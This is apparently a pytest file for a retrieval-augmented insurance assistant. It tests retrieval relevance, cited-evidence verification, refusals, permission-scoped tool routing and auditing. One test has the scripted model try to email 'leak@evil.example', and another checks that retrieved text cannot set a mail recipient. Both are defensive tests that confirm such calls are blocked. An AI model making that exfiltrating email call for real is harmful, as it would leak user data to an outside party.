"""The answer path on real components: the demo corpus in a real FAISS + BM25 knowledge base, the real demo tools
and SQLite records, the real audit; the model is scripted (what it writes is what is tested: any model can be made
to write it), its replies in the structured form the engine enforces.

Each stage has its test: standalone question, relevance, evidence units, tools, generation (streaming only the
answer), verification (figures, tiers, support) and composition (answer + quotes | evidence | record | refusal)."""

from __future__ import annotations

import json
import re
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from langchain_core.messages import BaseMessage

from assistant.backends import cpuload
from assistant.backends.scripted import ScriptedChat
from assistant.chain import Assistant
from assistant.chain.retrieval import HybridRetriever
from assistant.tools.demo.business_db import ensure_business_db
from assistant.tools.demo.tools import demo_registry
from core.audit import AuditLog, list_events
from core.identity import User
from core.prompts import answer_reply, prompt_units
from core.settings import Settings
from ingest import pipeline

CORPUS = Path(__file__).resolve().parent.parent / "corpus"
STAFF = User("wang", "staff", "sales")
CLAIMS = User("li", "claims", "claims")


@pytest.fixture(scope="module")
def corpus_settings(tmp_path_factory: pytest.TempPathFactory) -> Settings:
    """The demo corpus in a real knowledge base (the default embedding model, BM25 beside it)."""
    settings = Settings(home=tmp_path_factory.mktemp("corpus") / "home")
    pipeline.add_paths(settings, [CORPUS])
    return settings


def _scripted(settings: Settings, tmp_path: Path, *replies: str | Callable[[list[BaseMessage]], str],
              **changes: Any) -> tuple[Assistant, ScriptedChat]:
    chat = ScriptedChat(replies=list(replies))
    return Assistant(settings.model_copy(update=changes), chat, demo_registry(ensure_business_db(tmp_path / "b.db")),
                     AuditLog(tmp_path / "audit.db"), "scripted"), chat


def unit_id(messages: list[BaseMessage], fragment: str) -> int:
    """The number of the unit holding `fragment` in what the model was shown."""
    text = "\n".join(str(m.content) for m in messages)
    m = re.search(rf"^\[(\d+)\] [^\n]*{re.escape(fragment)}", text, re.M)
    assert m, f"no unit holds {fragment!r} in:\n{text}"
    return int(m.group(1))


def cite(fragment: str, answer: str, *more: str) -> Callable[[list[BaseMessage]], str]:
    """A reply citing the units that hold `fragment` (and `more`) by their keys, with `answer`."""
    def reply(messages: list[BaseMessage]) -> str:
        units = prompt_units([{"role": "user", "content": str(m.content)} for m in messages if m.type == "human"])
        return answer_reply(units, [unit_id(messages, f) for f in (fragment, *more)], answer)
    return reply


REFUSE = '{"evidence":[],"answer":""}'


# ---- retrieval: the relevance floor ------------------------------------------------------------------------------
@pytest.mark.parametrize("question", ["犹豫期是多长时间？", "出险后几天内报案？", "Who must approve a claim above CNY 300,000?",
                                      "How long are paid claim files kept?"])
def test_questions_the_documents_answer_pass_the_relevance_floor(corpus_settings: Settings, question: str) -> None:
    res = HybridRetriever(corpus_settings).retrieve(question, 4)
    assert res.relevant and res.coverage is not None and res.coverage >= corpus_settings.min_coverage


@pytest.mark.parametrize("question", ["公司今年的年终奖发放标准是什么？", "员工每年有几天年假？", "长青人寿的董事长是谁？",
                                      "What is the CEO's annual salary?"])
def test_questions_they_do_not_answer_fall_below_it(corpus_settings: Settings, question: str) -> None:
    """Cosines alone cannot tell these apart (0.85-0.90 like the answerable ones); the missing key terms can."""
    res = HybridRetriever(corpus_settings).retrieve(question, 4)
    assert not res.relevant and res.coverage is not None and res.coverage < corpus_settings.min_coverage


def test_off_topic_question_gets_the_refusal_without_the_model(corpus_settings: Settings, tmp_path: Path) -> None:
    a, chat = _scripted(corpus_settings, tmp_path, '{"evidence":[1],"answer":"年终奖为 10000 元。"}')
    ans = a.ask("公司今年的年终奖发放标准是什么？", STAFF)
    assert chat.seen == [] and ans.outcome == "refusal" and "没有找到" in ans.answer and ans.sources == []


# ---- evidence: numbered units with their own citations -----------------------------------------------------------
def test_units_carry_the_clause_they_stand_in_and_tables_read_whole() -> None:
    from assistant.chain.evidence import split_units
    from assistant.chain.state import Source

    text = ("第九条 事故通知\n投保人应于知道保险事故发生之日起十日内通知保险人。逾期通知的，\n保险人对无法确定的部分不承担责任。\n"
            "第十条 保险金申请\n申请时须提供下列材料：\n| 项目 | 材料 |\n|---|---|\n| 身故 | 死亡证明 |\n| 伤残 | 鉴定书 |\n")
    units = split_units(Source(2, "条款.pdf", 1, "第九条 事故通知", text, 1.0, "c:1", clauses=[
        "第二章 > 第九条 事故通知", "第二章 > 第十条 保险金申请"]))
    assert [(u.clause, u.kind, u.text) for u in units] == [
        ("第九条 事故通知", "sentence", "投保人应于知道保险事故发生之日起十日内通知保险人。"),
        ("第九条 事故通知", "sentence", "逾期通知的，保险人对无法确定的部分不承担责任。"),  # the line wrap undone
        ("第十条 保险金申请", "sentence", "申请时须提供下列材料："),
        ("第十条 保险金申请", "table", "| 项目 | 材料 |\n| 身故 | 死亡证明 |\n| 伤残 | 鉴定书 |")]  # small: one unit
    assert units[3].page == 1 and units[3].passage == 2 and units[3].label() == "条款.pdf, p.2, 第十条 保险金申请"
    assert units[3].prompt().text == "| 项目 | 材料 | | 身故 | 死亡证明 | | 伤残 | 鉴定书 |"  # one line for the model
    big = "第十一条 费率\n| 类别 | 费率 |\n|---|---|\n" + "".join(f"| 第{i}类 | {i * 3} 元 |\n" for i in range(1, 20))
    rows = split_units(Source(1, "费率.txt", None, None, big, 1.0, "c:2"))
    assert len(rows) == 19 and all(u.kind == "row" and u.header == "| 类别 | 费率 |" for u in rows)
    assert rows[2].prompt().text == "| 第3类 | 9 元 |" and rows[2].prompt().label.endswith("| 类别 | 费率 |")


def test_the_units_that_match_best_are_shown_best_first_within_the_budget() -> None:
    from assistant.chain.evidence import UnitScorer, build, tokens
    from assistant.chain.state import Answer, Source

    text = " ".join(f"Section {i}: the meeting room on floor {i} holds {i * 2} people." for i in range(1, 40))
    text += " Section 99: claim files are kept for ten years after closing."
    ans = Answer("How long are claim files kept?", "", [Source(1, "m.pdf", 0, None, text, 1.0, "c:1")], [])
    scores = build(ans, ans.question, UnitScorer(ans.question, lambda t: 1.0), passages=3, units=4, budget=60)
    assert ans.units[0].text == "Section 99: claim files are kept for ten years after closing."
    assert len(ans.units) <= 4 and sum(tokens(u.text) for u in ans.units) <= 60
    assert [u.n for u in ans.units] == [1, 2, 3, 4][:len(ans.units)] and scores[1] == max(scores.values())


def test_rules_and_tools_are_one_constant_prefix(corpus_settings: Settings, tmp_path: Path) -> None:
    """Two questions with different evidence render the same text up to the evidence: llama.cpp reuses its KV."""
    a, _ = _scripted(corpus_settings, tmp_path, REFUSE)
    one, _, _ = a.prompt_for("出险后几天内报案？", STAFF)
    two, _, _ = a.prompt_for("犹豫期多长？", STAFF)
    assert one[0] == two[0] and "calculator(expression)" in one[0]["content"]  # the tools are in the rules
    assert "search_documents" not in one[0]["content"]  # never offered: retrieval already searches
    assert one[1]["content"].startswith("资料：") and "出险" not in one[0]["content"]


# ---- generation and composition ------------------------------------------------------------------------------
def test_a_verified_answer_is_shown_with_the_units_it_cites_quoted(corpus_settings: Settings, tmp_path: Path) -> None:
    a, chat = _scripted(corpus_settings, tmp_path, cite("十五日为犹豫期", "犹豫期为十五日。"))
    streamed: list[str] = []
    ans = a.ask("犹豫期是多长时间？", STAFF, on_event=lambda k, v: streamed.append(v) if k == "token" else None)
    assert "".join(streamed) == "犹豫期为十五日。"  # the answer field only, never the JSON around it
    assert ans.outcome == "answer" and ans.verification["status"] == "verified"
    assert ans.answer.startswith("犹豫期为十五日。 [1]\n\n> ")
    (src,) = ans.sources
    assert src["source"] == "安心意外伤害保险条款.pdf" and src["clause"] == "第十二条 犹豫期" and "十五日" in src["text"]
    assert "自投保人签收保险单之" in chat.schemas[-1]["anyOf"][0]["properties"]["evidence"]["items"]["enum"]
    assert ans.first_token_s is not None and ans.first_token_s <= ans.latency_s


def test_an_answer_with_a_figure_no_cited_unit_holds_shows_the_units_instead(corpus_settings: Settings,
                                                                             tmp_path: Path) -> None:
    a, _ = _scripted(corpus_settings, tmp_path, cite("十五日为犹豫期", "犹豫期为二十天。"))
    ans = a.ask("犹豫期是多长时间？", STAFF)
    assert ans.outcome == "evidence" and ans.answer.startswith("资料原文：\n\n> ") and "二十" not in ans.answer
    assert ans.verification["unsupported"] == ["二十"] and "十五日" in ans.answer
    assert a.audit.get(ans.audit_id)["guard"]["status"] == "failed"  # the verdict is in the audit


def test_figures_written_another_way_are_the_same_figures(corpus_settings: Settings, tmp_path: Path) -> None:
    a, _ = _scripted(corpus_settings, tmp_path, cite("initial term", "Three years, from 1 April 2024."))
    ans = a.ask("How long is the initial term of the claims services agreement?", STAFF)
    assert ans.outcome == "answer", ans.verification  # three (3) years, 1 April 2024: the unit's own figures


def test_a_figure_from_another_tier_is_not_the_answer(corpus_settings: Settings, tmp_path: Path) -> None:
    """Asked about a 300-person group, both packaged models answered 八五折 citing "1000 人以上享受八五折": the
    figure stands in the cited unit, under a condition the question's 300 does not meet."""
    question = "三百人的单位投保团体意外险打几折？"
    a, _ = _scripted(corpus_settings, tmp_path, cite("1000 人以上", "可以享受八五折。"))
    ans = a.ask(question, STAFF)
    # the documents' words, cut to the tier the question's 300 is in
    assert ans.outcome == "evidence" and ans.answer == "资料原文：\n\n> … 200 至 999 人享受九折 … [1]"
    a, _ = _scripted(corpus_settings, tmp_path, cite("200 至 999 人", "300 人的团体享受九折。"))
    ans = a.ask(question, STAFF)
    assert ans.outcome == "answer" and ans.answer.startswith("300 人的团体享受九折。")


def test_among_a_units_clauses_the_answer_must_say_the_one_whose_range_holds(corpus_settings: Settings,
                                                                             tmp_path: Path) -> None:
    question = "Who approves a claim of CNY 450,000 under the claims handling manual?"
    a, _ = _scripted(corpus_settings, tmp_path, cite("above CNY 300,000", "The Claims Committee."))
    assert a.ask(question, STAFF).outcome == "evidence"
    a, _ = _scripted(corpus_settings, tmp_path, cite("above CNY 300,000", "The Head of Claims."))
    assert a.ask(question, STAFF).outcome == "answer"


def test_a_refusal_is_structured_and_lists_no_sources(corpus_settings: Settings, tmp_path: Path) -> None:
    a, _ = _scripted(corpus_settings, tmp_path, REFUSE)
    ans = a.ask("安心意外险的犹豫期内退保要扣手续费吗？", STAFF)
    assert ans.outcome == "refusal" and ans.answer == "抱歉，现有资料中没有找到这个问题的答案。" and ans.sources == []


def test_a_reply_that_is_not_the_structured_form_shows_the_best_unit_and_is_audited(corpus_settings: Settings,
                                                                                   tmp_path: Path) -> None:
    a, _ = _scripted(corpus_settings, tmp_path, "犹豫期是十五天。")  # a server without guided decoding
    ans = a.ask("犹豫期是多长时间？", STAFF)
    assert ans.outcome == "evidence" and "十五日为犹豫期" in ans.answer
    events = {e["event"] for e in list_events(a.audit) if e["detail"].get("turn_id") == ans.audit_id}
    assert "reply_malformed" in events


# ---- tools -----------------------------------------------------------------------------------------------------
def test_a_record_id_in_the_question_is_looked_up_before_the_model_writes(corpus_settings: Settings,
                                                                          tmp_path: Path) -> None:
    a, chat = _scripted(corpus_settings, tmp_path, cite("get_policy_status(POL-2024-0003)", "保单 POL-2024-0003 已失效。"))
    ans = a.ask("帮我查一下保单 POL-2024-0003 的状态", STAFF)
    assert [(t.name, t.arguments, t.ok) for t in ans.tool_calls] == [
        ("get_policy_status", {"policy_id": "POL-2024-0003"}, True)]
    assert len(chat.seen) == 1 and "lapsed" in str(chat.seen[0][-1].content)  # handed the record as a unit
    assert ans.outcome == "answer" and ans.answer.startswith("保单 POL-2024-0003 已失效。")
    assert ans.sources[0]["kind"] == "tool" and "lapsed" in ans.sources[0]["text"]


def test_a_look_up_whose_wording_fails_shows_the_record(corpus_settings: Settings, tmp_path: Path) -> None:
    a, _ = _scripted(corpus_settings, tmp_path, cite("get_order_status(ORD-5002)", "订单已于 2024-08-01 付款。"))
    ans = a.ask("订单 ORD-5002 付款了吗？", STAFF)
    assert ans.outcome == "tool_result" and "pending_payment" in ans.answer and "2024-08-01" not in ans.answer


def test_routing_respects_what_the_user_may_use(corpus_settings: Settings, tmp_path: Path) -> None:
    """Claim look-ups are for the claims department: a sales user's question naming a claim runs nothing."""
    a, chat = _scripted(corpus_settings, tmp_path, REFUSE)
    ans = a.ask("查一下理赔案件 CLM-2024-0002 的进度", STAFF)
    assert ans.tool_calls == [] and not any("investigating" in str(m.content) for s in chat.seen for m in s)
    ans = a.ask("查一下理赔案件 CLM-2024-0002 的进度", CLAIMS)
    assert [t.name for t in ans.tool_calls] == ["get_claim_status"] and ans.tool_calls[0].ok


def test_an_expression_is_computed_and_dates_and_ids_are_not(corpus_settings: Settings, tmp_path: Path) -> None:
    from assistant.chain.routing import route

    tools = demo_registry(ensure_business_db(tmp_path / "b.db")).allowed(STAFF)
    assert [(c.name, c.arguments) for c in route("计算 (2600 - 100) * 0.9", tools)] == [
        ("calculator", {"expression": "(2600 - 100) * 0.9"})]
    assert [c.arguments for c in route("1,200 × 3 是多少？", tools)] == [{"expression": "1200 * 3"}]
    assert route("保单 2024-01-10 生效，报案电话 95500-88", tools) == []
    assert route("POL-2024-0001 和 POL-2024-0002 哪个有效？", tools) == []  # two records: the model decides
    assert [c.arguments for c in route("保单POL-2024-0001的状态", tools)] == [{"policy_id": "POL-2024-0001"}]


def test_a_calculation_from_a_clause_runs_the_calculator_and_shows_the_formula(corpus_settings: Settings,
                                                                               tmp_path: Path) -> None:
    call = '{"tool":"calculator","arguments":{"expression":"(2600 - 100) * 0.9"}}'
    a, chat = _scripted(corpus_settings, tmp_path, call, cite("百分之九十", "可赔 2250 元。"))
    ans = a.ask("意外医疗费 2600 元，安心意外险能赔多少？", STAFF)
    offered = {b["properties"]["tool"]["const"] for b in chat.schemas[0]["anyOf"]}
    assert offered == {"none", "calculator"}  # no record named: no look-up offered
    assert [(t.name, t.ok, t.result) for t in ans.tool_calls] == [("calculator", True, {"result": 2250})]
    assert ans.outcome == "answer" and ans.answer.startswith("可赔 2250 元。")
    quoted = [s["text"] for s in ans.sources]
    assert any("百分之九十" in q for q in quoted) and "calculator((2600 - 100) * 0.9) = 2250" in quoted


def test_a_calculation_with_figures_from_nowhere_is_not_run_and_is_audited(corpus_settings: Settings,
                                                                          tmp_path: Path) -> None:
    call = '{"tool":"calculator","arguments":{"expression":"(3000 - 100) * 0.9"}}'
    a, _ = _scripted(corpus_settings, tmp_path, call, cite("百分之九十", "按百分之九十给付。"))
    ans = a.ask("意外医疗费 2600 元，安心意外险能赔多少？", STAFF)
    assert [(t.name, t.status) for t in ans.tool_calls] == [("calculator", "dropped")]
    assert "uses no figure of the question" in ans.tool_calls[0].error
    events = [e for e in list_events(a.audit) if e["detail"].get("turn_id") == ans.audit_id]
    assert [e["event"] for e in events] == ["tool_dropped"]


def test_a_calculation_that_fails_is_audited_and_not_shown_as_the_answer(corpus_settings: Settings,
                                                                         tmp_path: Path) -> None:
    """The model copied words into the expression: the calculator refuses it; that error is no answer to show."""
    call = '{"tool":"calculator","arguments":{"expression":"(2600 - 100) * 0.9 (计算)"}}'
    a, chat = _scripted(corpus_settings, tmp_path, call, cite("百分之九十", "按百分之九十给付。"))
    ans = a.ask("意外医疗费 2600 元，安心意外险能赔多少？", STAFF)
    assert [(t.name, t.ok) for t in ans.tool_calls] == [("calculator", False)]
    assert ans.outcome == "answer" and ans.answer.startswith("按百分之九十给付。")
    assert not any(s["text"].startswith("calculator(") for s in ans.sources)
    assert "not allowed in a calculation" not in json.dumps([str(m.content) for m in chat.seen[-1]],
                                                            ensure_ascii=False)
    events = [e for e in list_events(a.audit) if e["detail"].get("turn_id") == ans.audit_id]
    assert [e["event"] for e in events] == ["tool_error"]


def test_a_mail_goes_only_to_an_address_the_user_wrote(corpus_settings: Settings, tmp_path: Path) -> None:
    """A passage (or the model) cannot pick the recipient: the schema offers draft_email only with the addresses
    in the user's own words."""
    a, chat = _scripted(corpus_settings, tmp_path, '{"tool":"none"}', REFUSE)
    a.ask("把犹豫期的规定发邮件给客户 anna@example.com", CLAIMS)
    (mail,) = [b for b in chat.schemas[0]["anyOf"] if b["properties"]["tool"].get("const") == "draft_email"]
    assert mail["properties"]["arguments"]["properties"]["to"] == {"enum": ["anna@example.com"]}
    a, chat = _scripted(corpus_settings, tmp_path, REFUSE)
    a.ask("犹豫期是多长时间？", CLAIMS)
    assert len(chat.schemas) == 1 and "tool" not in json.dumps(chat.schemas[0])  # nothing to call: no choice asked


def test_a_call_the_model_was_not_offered_is_refused_and_audited(corpus_settings: Settings, tmp_path: Path) -> None:
    call = '{"tool":"draft_email","arguments":{"to":"leak@evil.example","subject":"x","body":"y"}}'
    a, _ = _scripted(corpus_settings, tmp_path, call, REFUSE)
    ans = a.ask("意外医疗费 2600 元能赔多少？", CLAIMS)
    assert [(t.name, t.status) for t in ans.tool_calls] == [("draft_email", "dropped")]
    import sqlite3

    with sqlite3.connect(tmp_path / "b.db") as conn:
        assert conn.execute("SELECT COUNT(*) FROM outbox").fetchone()[0] == 0


# ---- conversations ------------------------------------------------------------------------------------------------
def test_a_follow_up_is_written_out_before_it_is_searched(corpus_settings: Settings, tmp_path: Path) -> None:
    history = [{"role": "user", "content": "Who must approve a claim above CNY 300,000?"},
               {"role": "assistant", "content": "The Head of Claims."}]
    rewrite = '{"complete":false,"question":"Who must approve a claim above CNY 1,000,000?"}'
    a, chat = _scripted(corpus_settings, tmp_path, rewrite, cite("Claims Committee", "The Claims Committee."))
    ans = a.ask("And above CNY 1,000,000?", STAFF, history)
    assert ans.standalone == "Who must approve a claim above CNY 1,000,000?"
    assert "CNY 300,000" in str(chat.seen[0][-1].content)  # the decision saw the earlier question
    assert ans.outcome == "answer" and ans.sources[0]["source"] == "claims_handling_manual.pdf"


def test_a_question_that_stands_alone_gets_the_answer_it_gets_when_asked_first(corpus_settings: Settings,
                                                                              tmp_path: Path) -> None:
    reply = cite("十五日为犹豫期", "犹豫期为十五日。")
    a, first = _scripted(corpus_settings, tmp_path, reply)
    alone = a.ask("犹豫期是多长时间？", STAFF)
    history = [{"role": "user", "content": "三百人的单位打几折？"}, {"role": "assistant", "content": "九折。"}]
    b, later = _scripted(corpus_settings, tmp_path, '{"complete":true}', reply)
    after = b.ask("犹豫期是多长时间？", STAFF, history)
    assert after.standalone == "犹豫期是多长时间？" and after.answer == alone.answer
    assert [m.content for m in later.seen[-1]] == [m.content for m in first.seen[-1]]  # the very same prompt


def test_a_rewrite_that_drops_what_the_user_just_said_is_not_used(corpus_settings: Settings, tmp_path: Path) -> None:
    """The model "resolved" a question that stands alone into the earlier one: its figure (and every word) is gone,
    so the question is searched and answered as the user wrote it, and the rejected rewrite is recorded."""
    history = [{"role": "user", "content": "意外医疗费 2600 元能赔多少？"}, {"role": "assistant", "content": "2250 元。"}]
    rewrite = '{"complete":false,"question":"意外医疗费 2600 元能赔多少？"}'
    a, _ = _scripted(corpus_settings, tmp_path, rewrite, '{"tool":"none"}',
                     cite("Claims Committee", "The Claims Committee."))
    ans = a.ask("Who approves a claim of CNY 1,500,000?", STAFF, history)
    assert ans.standalone == "Who approves a claim of CNY 1,500,000?"
    assert any("leaves out 1,500,000" in m for m in ans.malformed)


@pytest.mark.parametrize(("question", "rewrite", "kept"), [
    ("其中发票必须是原件吗？", "理赔材料中的发票必须是原件吗？", True),
    ("那如果医疗费是2600元呢，能赔多少？", "意外医疗费是2600元时能赔多少？", True),
    ("它的等待期多长？", "重疾险的等待期多长？", True),
    ("And above CNY 1,000,000?", "Who must approve a claim above CNY 1,000,000?", True),
    # a new request sharing one word with an earlier question is that earlier question, not a completion of it
    ("给客户写一封邮件，告知他的理赔已受理", "理赔需要提交哪些材料？", False),
    ("How long does the review of a claim take?", "Which documents does a claim need?", False),
])
def test_a_rewrite_keeps_most_of_the_words_of_what_is_asked(question: str, rewrite: str, kept: bool) -> None:
    from assistant.chain.standalone import dropped

    assert (dropped(question, rewrite) is None) is kept, dropped(question, rewrite)


def test_a_record_named_only_in_an_earlier_turn_is_not_looked_up_again(corpus_settings: Settings,
                                                                      tmp_path: Path) -> None:
    """A new question that does not refer back to the record may not reach it: a look-up takes its id from this
    turn's words (or a follow-up's rewrite of them)."""
    history = [{"role": "user", "content": "查一下保单 POL-2024-0001 的状态"}, {"role": "assistant", "content": "有效。"}]
    a, chat = _scripted(corpus_settings, tmp_path, '{"complete":true}', REFUSE)
    ans = a.ask("How long is the initial term of the agreement?", STAFF, history)
    assert ans.tool_calls == [] and "POL-2024-0001" not in json.dumps(chat.schemas)


# ---- audit ---------------------------------------------------------------------------------------------------
def test_every_attempted_tool_call_is_an_audit_event(corpus_settings: Settings, tmp_path: Path) -> None:
    a, _ = _scripted(corpus_settings, tmp_path, cite("get_order_status(ORD-5002)", "待支付。"))
    ans = a.ask("订单 ORD-5002 和理赔 CLM-2024-0002 的状态？", STAFF)
    events = [e for e in list_events(a.audit) if e["detail"].get("turn_id") == ans.audit_id]
    assert {(e["event"], e["detail"]["tool"]) for e in events} == {("tool_ok", "get_order_status")}
    record = a.audit.get(ans.audit_id)
    assert record["guard"]["outcome"] == ans.outcome and record["guard"]["reply"] == ans.reply


# ---- llama.cpp's thread sizing --------------------------------------------------------------------------------
def test_threads_follow_the_free_cores() -> None:
    assert cpuload.threads_for(free=2.0, busy_requests=0, total=2) == 2
    assert cpuload.threads_for(free=1.1, busy_requests=0, total=2) == 1  # another program holds a core
    assert cpuload.threads_for(free=2.0, busy_requests=1, total=2) == 1  # our other request holds one
    assert cpuload.threads_for(free=0.2, busy_requests=3, total=2) == 1


@pytest.mark.skipif(not Path("/proc/stat").exists(), reason="reads /proc")
def test_the_monitor_sees_another_program_using_a_core() -> None:
    monitor = cpuload.CpuMonitor(interval_s=0.2, smoothing=0.0)
    busy = subprocess.Popen([sys.executable, "-c", "import time\nt=time.time()\nwhile time.time()-t<3: pass"])
    try:
        time.sleep(1.5)
        assert monitor.others >= 0.6, monitor.others  # one core's worth, less what sampling misses
        assert monitor.free_cores() <= cpuload.cores() - 0.6
    finally:
        busy.wait()
